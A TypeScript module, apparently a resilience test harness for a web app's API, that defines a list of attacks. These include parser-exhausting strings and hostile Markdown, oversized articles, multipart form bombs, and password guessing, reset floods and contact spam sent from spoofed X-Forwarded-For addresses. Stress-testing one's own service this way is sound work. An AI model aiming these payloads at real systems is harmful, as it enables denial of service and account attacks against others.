export interface Target {
  url: string;
  token: string;
  ownerEmail: string;
}

export interface Attack {
  name: string;
  send: (target: Target, count: number) => Promise<Response>;
}

const strangerAddress = (count: number) => `100.64.${count % 100}.1`;

function call(
  { url, token }: Target,
  key: string,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<Response> {
  const [method = 'GET', path = '/'] = key.split(' ');
  return fetch(url + path, {
    method,
    headers: {
      'x-auth-token': token,
      'x-forwarded-for': '203.0.113.1',
      ...(body !== undefined && { 'content-type': 'application/json' }),
      ...headers,
    },
    body: body === undefined ? null : JSON.stringify(body),
  });
}

const asStranger = (target: Target, key: string, body: unknown, count: number) =>
  call({ ...target, token: '' }, key, body, { 'x-forwarded-for': strangerAddress(count) });

/** An address of this form once took cubic time to parse. */
const longAddress = `https://a.bc/${'.'.repeat(2490)}x${')'.repeat(2490)}`;
const brackets = `${'https://a.bc/'.repeat(2)}${'[('.repeat(2480)}`.slice(0, 5000);
const manyAt = '@Ann '.repeat(1000).slice(0, 5000);
const manyAddresses = 'https://a.bc '.repeat(384).slice(0, 5000);

/** Short rows that the parser completes: 10 KB once became 4 MB of HTML. */
const table = (columns: number, rows: number) =>
  `${'|a'.repeat(columns)}|\n${'|-'.repeat(columns)}|\n${'|b\n'.repeat(rows)}`;
const hostileMarkdown = [
  table(255, 255),
  `${table(100, 100)}\n\n`.repeat(10),
  '['.repeat(20_000),
  '>'.repeat(5000),
  '- '.repeat(5000),
  '*a_'.repeat(6000),
  '`'.repeat(20_000),
  '![a](/images/x)'.repeat(1300),
  `[a]: /x\n${'[a]'.repeat(6000)}`,
  '<a'.repeat(10_000),
];

const articleOf = (text: string, count: number) => ({
  title: `An article ${count}`,
  snippet: 'A snippet',
  url: 'https://www.example.com',
  text,
});

function form(target: Target, inner: string): Promise<Response> {
  return fetch(`${target.url}/api/profile/image`, {
    method: 'POST',
    headers: { 'x-auth-token': target.token, 'content-type': 'multipart/form-data; boundary=b' },
    body: inner,
  });
}
const tinyParts = `${'--b\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(90_000)}--b--\r\n`;
const manyHeaders = `--b\r\n${'a:b\r\n'.repeat(800_000)}\r\n\r\n--b--\r\n`;

let lastPost = '';
async function idOf(response: Response): Promise<Response> {
  const copy: unknown = await response
    .clone()
    .json()
    .catch(() => undefined);
  if (typeof copy === 'object' && copy !== null && '_id' in copy) lastPost = String(copy._id);
  return response;
}

export const attacks: Attack[] = [
  {
    name: 'posts that were slow to read',
    send: (target, count) =>
      call(target, 'POST /api/posts', {
        text: [longAddress, brackets, manyAt, manyAddresses][count % 4],
      }).then(idOf),
  },
  {
    name: 'edits of a post',
    send: (target, count) =>
      call(target, `PATCH /api/posts/${lastPost}`, { text: `${longAddress.slice(0, 4900)} ${count}` }),
  },
  {
    name: 'previews of hostile Markdown',
    send: (target, count) =>
      call(target, 'POST /api/articles/preview', { text: hostileMarkdown[count % hostileMarkdown.length] }),
  },
  {
    name: 'articles of hostile Markdown',
    send: (target, count) =>
      call(
        target,
        'POST /api/articles',
        articleOf(hostileMarkdown[count % hostileMarkdown.length] ?? '', count),
      ),
  },
  {
    name: 'articles of 170,000 characters',
    send: (target, count) => call(target, 'POST /api/articles', articleOf('word '.repeat(34_000), count)),
  },
  {
    name: 'testimonials of tables',
    send: (target, count) =>
      call(target, 'POST /api/testimonials', {
        name: `Agent ${count}`,
        testimonial: table(250, 470).slice(0, 2000),
      }),
  },
  {
    name: 'searches of one-letter words',
    send: (target) => call(target, 'GET /api/posts?search=a+b+c+d+e+f+g+h'),
  },
  { name: 'searches of common words', send: (target) => call(target, 'GET /api/posts?search=the+an+to+of') },
  {
    name: 'wrong passwords from 100 addresses',
    send: (target, count) =>
      asStranger(target, 'POST /api/auth', { email: target.ownerEmail, password: `wrong ${count}` }, count),
  },
  {
    name: 'resets of the owner’s password',
    send: (target, count) =>
      asStranger(target, 'POST /api/auth/reset-password', { email: target.ownerEmail }, count),
  },
  {
    name: 'contact requests from 100 addresses',
    send: (target, count) =>
      asStranger(
        target,
        'POST /api/contact',
        { firstName: 'A', lastName: 'B', phone: '5550100199', email: `x${count}-${Date.now()}@example.com` },
        count,
      ),
  },
  {
    name: 'changes of the own password',
    send: (target, count) =>
      call(target, 'POST /api/auth/change-password', { password: `a pass phrase ${count}` }),
  },
  { name: 'forms of tiny parts', send: (target) => form(target, tinyParts) },
  { name: 'forms of header lines', send: (target) => form(target, manyHeaders) },
  { name: 'what is refused at once', send: (target) => call(target, 'GET /api/users') },
];
